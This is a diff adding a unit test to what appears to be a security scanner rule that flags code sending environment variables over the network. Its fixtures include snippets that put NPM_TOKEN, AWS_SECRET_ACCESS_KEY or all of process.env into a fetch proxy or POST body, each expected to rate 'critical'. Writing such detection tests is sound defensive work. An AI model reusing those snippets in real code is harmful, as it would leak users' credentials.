@@ -350,3 +350,15 @@ test('bad: all variables as the body of a request, whoever the client is from', 
   assert.equal(files(`${client}client.post({ body: process.env })`), 'high');
   for (const code of ['client.request({ url, data: { node: process.env.NODE_ENV } })', 'client.request({ url, env: { ...process.env } })', 'render({ data: process.env })']) assert.equal(files(client + code), 'nothing', code);
 });
+
+test('a variable of the environment that a function looks up by one of some names', () => {
+  const of = (code: string) => findingsOf(rule, { 'a.js': code })[0]?.severity ?? 'nothing';
+  const proxy = (find: string, names = '["https_proxy", "HTTPS_PROXY"]') => `const NAMES = ${names}; function find(env) { ${find} } function proxy(env = process.env) { const found = find(env); return found && found.value } fetch("https://api.example.com/", { proxy: proxy() })`;
+  for (const find of ['for (const name of NAMES) if (env[name]) return { name, value: env[name] }', 'const name = NAMES.find((each) => env[each]); return name ? { name, value: env[name] } : undefined']) {
+    assert.equal(of(proxy(find)), 'nothing', find);
+    assert.equal(of(proxy(find, '["NPM_TOKEN", "AWS_SECRET_ACCESS_KEY"]')), 'critical', find);
+    assert.equal(of(proxy(find, 'Object.keys(process.env)')), 'critical', find);
+  }
+  for (const find of ['return { value: Object.keys(env).map((name) => env[name]) }', 'const all = {}; for (const name in env) all[name] = env[name]; return { value: all }']) assert.equal(of(proxy(find)), 'critical', find);
+  assert.equal(of('const kept = { all: process.env }; function one(of, name) { return of[name] } fetch("https://api.example.com/", { method: "POST", body: JSON.stringify(one(kept, name)) })'), 'critical', 'of an object with it');
+});
